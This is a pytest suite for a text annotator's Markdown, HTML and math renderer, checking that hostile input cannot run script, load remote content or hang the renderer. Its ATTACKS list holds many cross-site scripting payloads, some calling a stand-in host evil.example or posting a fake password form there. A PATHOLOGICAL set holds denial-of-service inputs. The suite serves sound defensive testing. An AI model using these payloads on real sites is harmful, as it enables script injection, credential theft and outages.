"""Rendering hostile text: nothing runs, nothing loads, nothing is lost, nothing hangs."""

from __future__ import annotations

import re
import threading
import time
from html.parser import HTMLParser

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from annotator import rendering, rendering_code, rendering_math
from annotator.rendering import render_markdown, render_messages, render_plain, summary_line

HTML_ATTRIBUTES = {
    "a": {"href", "title", "rel"},
    "ol": {"start", "dir"},
    "pre": {"class", "dir", "tabindex"},
    "code": {"class", "dir"},
    "div": {"class", "tabindex"},
    "span": {"class"},
    "th": {"class"},
    "td": {"class"},
    "p": {"class", "dir"},
    **{tag: {"dir"} for tag in ("h3", "h4", "h5", "h6", "ul", "blockquote", "table")},
    **{tag: set() for tag in ("hr", "br", "li", "strong", "em", "del", "thead", "tbody", "tr")},
}
MATH_ATTRIBUTES = {
    "class", "display", "form", "scriptlevel", "mathvariant", "stretchy", "fence", "accent",
    "accentunder", "largeop", "movablelimits", "displaystyle", "width", "height", "depth",
    "lspace", "rspace", "voffset", "minsize", "maxsize", "linethickness",
}  # fmt: skip
MATH_TAGS = {
    "math", "mrow", "mi", "mn", "mo", "mtext", "mspace", "ms", "mfrac", "msqrt", "mroot", "msub",
    "msup", "msubsup", "munder", "mover", "munderover", "mmultiscripts", "mprescripts", "mtable",
    "mtr", "mtd", "mstyle", "mpadded", "mphantom",
}  # fmt: skip
CLASSES = {
    "code", "plain", "math", "k", "s", "s1", "c1", "image", "scroll", "note", "num",
    "start", "end", "boxed", "canceled",
}  # fmt: skip


class Audit(HTMLParser):
    """Collects what a page would make of some HTML, and everything that has no place in it."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.wrong: list[str] = []
        self.tags: list[str] = []
        self.links: list[str] = []
        self.text = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        allowed = MATH_ATTRIBUTES if tag in MATH_TAGS else HTML_ATTRIBUTES.get(tag)
        if allowed is None:
            self.wrong.append(f"<{tag}>")
            return
        for name, value in attrs:
            if name not in allowed:
                self.wrong.append(f"<{tag} {name}>")
            if name == "class" and not set((value or "").split()) <= CLASSES:
                self.wrong.append(f"<{tag} class={value}>")
            if name == "href":
                self.links.append(value or "")
                if not re.match(r"(https?://|mailto:)", value or ""):
                    self.wrong.append(f"href={value}")
            if name == "rel" and value != "noopener noreferrer nofollow":
                self.wrong.append(f"rel={value}")

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_comment(self, data: str) -> None:
        self.wrong.append(f"<!--{data}-->")

    def handle_decl(self, decl: str) -> None:
        self.wrong.append(f"<!{decl}>")

    def handle_pi(self, data: str) -> None:
        self.wrong.append(f"<?{data}>")


def audited(text: str, *, math: bool = True) -> Audit:
    """Render a text, and fail unless everything in the result is on the allow-list."""
    html = render_markdown(text, math=math)
    audit = Audit(html)
    assert audit.wrong == [], (text, html)
    assert rendering._CLEANER.clean(html) == html, "the allow-list is not a fixed point"
    return audit


ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<img src=x onerror=alert(1)>",
    "<img src=`x` onerror=alert(1)//",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<style>*{background:url(https://evil.example)}</style>",
    "<p style='position:fixed;inset:0'>over everything</p>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=data:text/html,<script>alert(1)</script>></object>",
    "<embed src=javascript:alert(1)>",
    "<form action=https://evil.example><input name=password><button>Sign in</button></form>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=https://ok.example target=_blank id=main onclick=alert(1)>x</a>",
    "<div hx-get=/projects hx-trigger=load></div>",
    "<button data-key=1 aria-keyshortcuts=1>A</button>",
    "<!-- --><script>alert(1)</script> -->",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<!DOCTYPE html><html onmouseover=alert(1)>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=alert(1)></annotation-xml></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=1&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<select><template><img src=x onerror=alert(1)></template></select>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](java\tscript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](&#106&#97&#118&#97script:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](%6Aavascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml,<svg onload=alert(1)>)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example/)",
    "[x](/projects/one/delete)",
    "[x](?next=1)",
    "[x](#main)",
    "[x](https:javascript:alert(1))",
    "[x](http://\"onmouseover='alert(1)')",
    '[x](https://ok.example "t\\" onmouseover=alert(1) x=\\"")',
    "[x][1]\n\n[1]: javascript:alert(1)",
    '[x]\n\n[x]: https://ok.example "\\"><script>alert(1)</script>"',
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "<https://ok.example/\"onmouseover='alert(1)'>",
    "![x](https://evil.example/pixel.png)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    '!["onerror="alert(1)](https://evil.example/x.png)',
    "![![x](https://evil.example/a.png)](https://evil.example/b.png)",
    "[![x](https://evil.example/a.png)](javascript:alert(1))",
    "```<script>\nalert(1)\n```",
    "```js\" onmouseover=\"alert(1)\n</code></pre><script>alert(1)</script>\n```",
    "~~~ \"><img src=x onerror=alert(1)>\nx\n~~~",
    "```html\n<script>alert('</code>')</script>\n```",
    "`</code><script>alert(1)</script>`",
    "    </code></pre><script>alert(1)</script>",
    "| a |\n|:-:|\n| <script>alert(1)</script> |",
    "| <img src=x onerror=alert(1)> |\n| --: |\n| [x](javascript:alert(1)) |",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&amp;lt;script&amp;gt;",
    "$\\text{<script>alert(1)</script>}$",
    "$\\text{</math><script>alert(1)</script>}$",
    "$\\href{javascript:alert(1)}{x}$",
    "$\\unicode{x3c}script\\unicode{x3e}$",
    "$\\unicode{x3c script x3e}$",
    "$\\text{&#x3c;img src=x onerror=alert(1)&#x3e;}$",
    "$\\style{position:fixed}{x}$",
    "$\\class{dock}{x}$",
    "$\\color{red;background:url(https://evil.example)}{x}$",
    "$\\rule{9999em}{9999em}$ $\\hspace{-999em}x$",
    "$\\mathbf{<img src=x onerror=alert(1)>}$",
    "$$\\begin{matrix}<script>&alert(1)\\end{matrix}$$",
    "\\(\\fbox{<style>*{display:none}</style>}\\)",
    "\\[\n\\mbox{<svg onload=alert(1)>}\n\\]",
    "$\\notacommand{<script>alert(1)</script>}$",
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<scr\u2028ipt>alert(1)</script>",
    "\ud800<script>alert(1)</script>",
]  # fmt: skip


@pytest.mark.parametrize("attack", ATTACKS)
def test_render_lets_nothing_run_or_load(attack: str) -> None:
    for text in (attack, f"before {attack} after", f"> - {attack}", f"a\n\n{attack}\n\nb"):
        audit = audited(text)
        assert all("evil.example" not in link for link in audit.links)
    audited(attack, math=False)


@pytest.mark.parametrize("attack", ATTACKS)
def test_render_is_safe_before_the_sanitizer_looks_at_it(attack: str) -> None:
    html = rendering._PARSERS[True, True].render(rendering.visible(attack), {})
    assert Audit(html).wrong == []


def test_formula_text_is_shown_and_not_markup() -> None:
    assert audited("$\\text{a<b>c</b> &lt;}$").text.strip() == "a<b>c</b>\xa0&lt;"


def test_render_shows_markup_as_the_text_it_is() -> None:
    attack = "<script>alert(1)</script> and [x](javascript:alert(1)) <!-- hidden -->"
    assert audited(attack).text.strip() == attack


PIECES = (
    "< > & \" ' ` `` ``` ~~~ * ** _ __ ~~ [ ] ( ) ![ ]( $ $$ \\( \\) \\[ \\] \\ { } | # > - + 1. "
    "<script> </script> <a href= javascript: https://a.b data: &#x3c; &lt; --> <!-- ```python class "
    "\\text{ \\href{ \\frac \\begin{align} \\end{align} \\unicode{x3c} ---|--- :-: 'x' //"
)
HOSTILE = st.lists(
    st.one_of(
        st.text(max_size=20),
        st.sampled_from([*PIECES.split(), *" \n\t\x00\ud800\u202e", "\n\n"]),
        st.sampled_from(ATTACKS),
    ),
    max_size=30,
).map("".join)


@settings(max_examples=400, deadline=None)
@given(HOSTILE)
@example("[a](http://[::1")
@example("[a](http://a:99999999)")
@example("<http://\u0130\u0307>")
@example("$\\genfrac(){0pt}{}{a}{b}$")
@example("$x^" + "{" * 60 + "$")
def test_render_any_text_stays_within_the_allow_list(text: str) -> None:
    audited(text)


@settings(max_examples=200, deadline=None)
@given(st.text(alphabet=st.characters(codec=None), max_size=200))
def test_render_plain_keeps_every_visible_character(text: str) -> None:
    audit = Audit(render_plain(text))
    assert audit.tags == ["pre"]
    assert audit.text == "\n" + rendering.visible(text)


@settings(max_examples=200, deadline=None)
@given(st.text(alphabet=st.characters(codec=None)))
def test_visible_leaves_no_control_and_repeats_to_itself(text: str) -> None:
    shown = rendering.visible(text)
    assert rendering.visible(shown) == shown
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", shown)
    assert shown.encode().decode() == shown  # no lone surrogate for a socket to trip over


def test_visible_names_what_cannot_be_seen() -> None:
    assert rendering.visible("a\x00b\ufeffc\r\nd\re\x1bf\u202eg") == "abc\nd\ne\u241bf[U+202E]g"


PATHOLOGICAL = {
    "one line of a megabyte": "a " * 500_000,
    "brackets": "[" * 100_000,
    "closed brackets": "[" * 50_000 + "]" * 50_000,
    "images": "![" * 10_000,
    "images under the limit": "![" * 2_400,
    "half links": "[a](" * 2_500,
    "quotes": ">" * 100_000,
    "quotes and lists": "> - " * 20_000,
    "backticks": "`" * 200_000,
    "rising backticks": "".join("a" + "`" * n for n in range(600)),
    "emphasis": "*a **a " * 30_000,
    "emphasis under the limit": "*a **a " * 6_000,
    "mixed emphasis": "*a_ " * 9_000,
    "nested lists": "".join("  " * n + "- a\n" for n in range(400)),
    "long list": "* a\n" * 6_600,
    "headings": "# a\n" * 6_600,
    "wide table": "|a" * 20_000 + "|\n" + "|-" * 20_000 + "|\n",
    "short rows": "|" + "a|" * 100 + "\n|" + "-|" * 100 + "\n" + "a\n" * 9_000,
    "long table": "a|b\n-|-\n" + "a|b\n" * 6_600,
    "dollars": "$" * 200_000,
    "spaced dollars": "$a $" * 5_000,
    "open display math": "$$a\n" * 6_000,
    "open brackets math": "\\[a\n" * 6_000,
    "formulas": "$\\frac{a}{b}$ " * 3_000,
    "deep formula": "$" + "{" * 700 + "}" * 700 + "$",
    "doubling macros": "$\\def\\a{xx}" + "".join(
        f"\\def\\{b}{{\\{a}\\{a}}}" for a, b in zip("abcdefghijkl", "bcdefghijklm", strict=True)
    ) + "\\m$",
    "doubling commands": "$" + "".join(
        f"\\newcommand{{\\{b}}}{{\\{a}\\{a}}}"
        for a, b in zip("abcdefghijkl", "bcdefghijklm", strict=True)
    ) + "\\m$",
    "C and blanks": "```c\na" + " " * 9_000 + "\n```",
    "C and empty lines": "```c\na" + "\n" * 9_000 + "b\n```",
    "C++ comments": "```cpp\n" + "//" * 4_900 + "\n```",
    "Java words": "```java\n" + "a b " * 2_400 + "\n```",
    "Scala string": "```scala\n" + '"\\' * 2_000 + "\n```",
    "many fences": "```python\nx = 'a'\n```\n" * 1_200,
    "entities": "&#x" * 30_000,
    "backslashes": "\\" * 200_000,
    "tags": "<a " * 30_000,
    "autolinks": "<http://a.b>" * 4_000,
    "punycode": "<http://" + "é" * 150_000 + ">",
    "definitions": "".join(f"[a{n}]: b\n" for n in range(2_500)),
    "overrides": "\u202e" * 200_000,
    "NULs": "\x00" * 1_000_000,
    "carriage returns": "\r" * 300_000,
    "surrogates": "\ud800" * 100_000,
}  # fmt: skip


@pytest.mark.parametrize("name", PATHOLOGICAL)
def test_render_stays_bounded(name: str) -> None:
    # Half a second or less on an idle core; the limit is there to catch a hang.
    start = time.process_time()
    html = render_markdown(PATHOLOGICAL[name])
    assert time.process_time() - start < 5
    assert Audit(html).wrong == []


def test_render_over_the_limit_falls_back_to_text_and_says_so() -> None:
    text = "**bold** " * 30_000
    audit = audited(text)
    assert audit.tags == ["p", "pre", "code"]
    assert "Shown as plain text: 270,000 characters is over the limit of 200,000." in audit.text
    assert "**bold** **bold**" in audit.text


def test_render_shows_what_is_nested_too_deeply() -> None:
    audit = audited("> " * 80 + "the last word")
    assert "nested too deeply" in audit.text
    assert "the last word" in audit.text


def test_render_keeps_deep_but_ordinary_nesting() -> None:
    audit = audited("".join("  " * n + f"- level {n}\n" for n in range(12)))
    assert audit.tags.count("ul") == 12
    assert "level 11" in audit.text


def test_render_shows_definitions_instead_of_dropping_them() -> None:
    assert "[//]: # (a secret)" in audited("Hello\n\n[//]: # (a secret)").text


def test_render_keeps_a_fault_in_the_parser_from_the_page(
    monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    def broken(*_: object) -> str:
        raise RecursionError("planted")

    monkeypatch.setattr(rendering._PARSERS[True, True], "render", broken)
    html = render_markdown("a text that no other test renders")
    assert "a text that no other test renders" in html
    assert "could not be read as Markdown" in html
    assert "planted" in caplog.text


# What good text becomes ------------------------------------------------------------------------


def test_render_moves_headings_below_the_page() -> None:
    assert audited("# a\n\n## b\n\n##### c\n\nd\n===").tags == ["h3", "h4", "h6", "h3"]


def test_render_code_with_the_classes_of_the_stylesheet() -> None:
    html = render_markdown("```python\ndef f():  # why\n    return 'x' < \"y\"\n```")
    assert html == (
        '<pre class="code" dir="ltr" tabindex="0"><code><span class="k">def</span> f():  '
        '<span class="c1"># why</span>\n    <span class="k">return</span> '
        '<span class="s1">\'x\'</span> &lt; <span class="s">"y"</span></code></pre>\n'
    )


def test_render_code_of_an_unknown_language_plainly() -> None:
    assert render_markdown("```brainfuck\n+<\n```") == (
        '<pre class="code" dir="ltr" tabindex="0"><code>+&lt;</code></pre>\n'
    )


@pytest.mark.parametrize("language", sorted(set(rendering_code._LANGUAGES.values())))
def test_highlight_changes_no_character(language: str) -> None:
    code = "\n\n  x = 'a\\'b' /* c */ # d \"e\"\n\t<f> & é \n-- g\nif (x) { return 1; } \n\n"
    assert Audit(rendering_code.highlight(code, language)).text == code


@settings(max_examples=150, deadline=None)
@given(st.sampled_from(sorted(set(rendering_code._LANGUAGES.values()))), st.text(max_size=200))
def test_highlight_any_text_changes_no_character(language: str, code: str) -> None:
    parsed = Audit(rendering_code.highlight(code, language))
    assert parsed.text == code
    assert parsed.wrong == []


def test_highlight_stops_at_its_deadline_and_keeps_the_rest() -> None:
    code = "x = 'a'  # b\n" * 50
    html = rendering_code.highlight(code, "python", until=time.monotonic() - 1)
    assert "<span" not in html
    assert Audit(html).text == code


def test_render_tables_align_without_styles() -> None:
    html = render_markdown("| a | b |\n|---|--:|\n| 1 | 2 |")
    assert html.startswith('<div class="scroll"><table dir="auto">')
    assert '<th class="num">b</th>' in html
    assert '<td class="num">2</td>' in html
    assert "style" not in html


def test_render_makes_a_wide_table_reachable_by_key() -> None:
    wide = "|" + "a|" * 6 + "\n|" + "-|" * 6
    assert render_markdown(wide).startswith('<div class="scroll" tabindex="0">')


def test_render_links_open_nothing_of_ours() -> None:
    html = render_markdown("[a](https://ok.example/?q=1&r=2) <mailto:a@b.example>")
    assert html.count('rel="noopener noreferrer nofollow"') == 2
    assert 'href="https://ok.example/?q=1&amp;r=2"' in html
    assert "target" not in html


def test_render_does_not_decode_the_host_of_a_link() -> None:
    audit = audited("<https://xn--pple-43d.example>")
    assert "https://xn--pple-43d.example" in audit.text


def test_render_names_images_instead_of_loading_them() -> None:
    html = render_markdown("![a *cat*](https://ok.example/cat.png)")
    assert '<span class="image">image: a cat (https://ok.example/cat.png)</span>' in html


def test_render_keeps_line_ends_of_a_chat_and_joins_those_of_a_document() -> None:
    assert "one<br>" in render_markdown("one\ntwo")
    assert "<br>" not in render_markdown("one\ntwo", breaks=False)


def test_render_gives_each_block_its_own_direction() -> None:
    html = render_markdown("مرحبا `x = 1`\n\n- שלום")
    assert '<p dir="auto">مرحبا <code dir="ltr">x = 1</code></p>' in html
    assert '<ul dir="auto">' in html


@pytest.mark.parametrize(
    ("text", "display"),
    [
        ("$x^2$", "inline"),
        ("\\(x^2\\)", "inline"),
        ("$$x^2$$", "block"),
        ("\\[x^2\\]", "block"),
        ("so\n$$\nx^2\n$$\nthen", "block"),
        ("so\n\\[\nx^2\n\\]\nthen", "block"),
        ("so $$x^2$$ then", "block"),
        ("> $$\n> x^2\n> $$", "block"),
        ("- so\n  \\[\n  x^2\n  \\]", "block"),
    ],
)
def test_render_math_in_every_delimiter(text: str, display: str) -> None:
    html = render_markdown(text)
    assert (
        f'<math display="{display}"><mrow><msup><mi>x</mi><mn>2</mn></msup></mrow></math>' in html
    )
    assert "$" not in html
    audited(text)


def test_render_math_lines_that_look_like_lists() -> None:
    audit = audited(
        "\\[\n\\begin{aligned}\na &= b \\\\\n- c &= d \\\\\n+ e &= f\n\\end{aligned}\n\\]"
    )
    assert "ul" not in audit.tags
    assert audit.tags.count("mtr") == 3


@pytest.mark.parametrize(
    "text",
    ["It costs $5 and $10.", "5$ or 6$", "$ a $", "$HOME and $PATH", "US$5 to US$6", "\\$x\\$"],
)
def test_render_leaves_money_and_shell_alone(text: str) -> None:
    audit = audited(text)
    assert "math" not in audit.tags
    assert audit.text.strip() == text.replace("\\", "")


@pytest.mark.parametrize(
    "latex",
    [
        "$\\frac{a$",
        "$\\unknowncommand x$",
        "$x^" + "{" * 60 + "a" + "}" * 60 + "$",
        "$\\def\\a{b}\\a$",
    ],
)
def test_render_shows_the_source_of_a_formula_it_cannot_read(latex: str) -> None:
    audit = audited(latex)
    assert "math" not in audit.tags
    assert audit.text.strip() == latex


def test_render_math_can_be_turned_off() -> None:
    assert audited("$x^2$", math=False).text.strip() == "$x^2$"


def test_formula_bold_letters_are_letters_browsers_draw_bold() -> None:
    assert "<mi>𝐱</mi>" in (rendering_math.formula("\\mathbf{xy}", block=False) or "")


def test_formula_box_and_columns_become_classes() -> None:
    assert '<mrow class="boxed">' in (rendering_math.formula("\\boxed{4}", block=True) or "")
    columns = rendering_math.formula("\\begin{align*}a &= b\\end{align*}", block=True) or ""
    assert '<mtd class="end">' in columns
    assert '<mtd class="start">' in columns


def test_formula_cannot_be_moved_over_other_text() -> None:
    html = rendering_math.formula(
        "x\\hspace{-50em}y\\rule{900em}{900em}\\hspace{-0.2em}", block=False
    )
    assert html is not None
    assert html.count("width=") == 1
    assert 'width="-0.2em"' in html


# Conversations, summaries, the cache -----------------------------------------------------------


def test_render_messages_keeps_roles_and_text() -> None:
    first, second = render_messages(
        [
            {"role": "user", "content": "**hi**"},
            {
                "role": "assistant",
                "content": [
                    {"type": "text", "text": "yes"},
                    {"type": "image_url", "image_url": {}},
                ],
            },
        ]
    )
    assert (first.role, first.text) == ("user", "**hi**")
    assert first.html == '<p dir="auto"><strong>hi</strong></p>\n'
    assert second.text == "yes\n\n[image_url]"


@pytest.mark.parametrize(
    "message", [None, 3, "text", {}, {"role": None, "content": None}, {"content": [1, {"type": 2}]}]
)
def test_render_messages_shows_whatever_came(message: object) -> None:
    (turn,) = render_messages([message])
    assert turn.role
    assert Audit(turn.html).wrong == []


def test_render_messages_says_how_many_it_leaves_out() -> None:
    turns = render_messages({"role": "user", "content": str(n)} for n in range(1_000))
    assert len(turns) == rendering.MAX_MESSAGES + 1
    assert [turn.text for turn in turns if turn.role == "note"] == [
        "800 messages are not shown here."
    ]
    assert (turns[0].text, turns[-1].text) == ("0", "999")


@pytest.mark.parametrize(
    ("text", "limit", "line"),
    [
        ("How do I get *monthly* revenue?", 80, "How do I get monthly revenue?"),
        ("# Title\n\n- one\n- two", 80, "Title one two"),
        ("```python\nx = 1\n```", 80, "x = 1"),
        ("one two three four", 12, "one two…"),
        ("x" * 50, 10, "xxxxxxxxx…"),
        ("", 10, ""),
        ("2 * 3 > 5 and snake_case", 80, "2  3 > 5 and snake_case".replace("  ", " ")),
    ],
)
def test_summary_line_reads_as_one_line(text: str, limit: int, line: str) -> None:
    assert summary_line(text, limit) == line


@settings(max_examples=200, deadline=None)
@given(st.text(alphabet=st.characters(codec=None)), st.integers(2, 100))
def test_summary_line_keeps_its_limit(text: str, limit: int) -> None:
    line = summary_line(text, limit)
    assert len(line) <= limit
    assert "\n" not in line


def test_cache_forgets_the_oldest_by_number_and_by_size() -> None:
    cache = rendering._Cache(entries=2, chars=100, largest=60)
    html = rendering.mark_safe("x" * 20)
    for name in "abc":
        cache.put((name, True, True), html)
    assert cache.get(("a", True, True)) is None
    assert cache.get(("b", True, True)) == html
    cache.put(("d" * 40, True, True), html)  # 60 with its text: one of the others has to go
    assert cache.get(("c", True, True)) is None
    assert cache.get(("b", True, True)) == html
    cache.put(("e" * 41, True, True), html)  # over the size of one entry
    assert cache.get(("e" * 41, True, True)) is None


def test_render_agrees_between_threads() -> None:
    texts = [f"**{n}** `code` $x_{n}$ and\n\n```python\nx = {n}\n```" for n in range(40)]
    expected = [render_markdown(text) for text in texts]
    wrong: list[str] = []

    def work() -> None:
        for text, html in zip(texts, expected, strict=True):
            if rendering._render(text, math=True, breaks=True) != html:
                wrong.append(text)

    threads = [threading.Thread(target=work) for _ in range(4)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert wrong == []
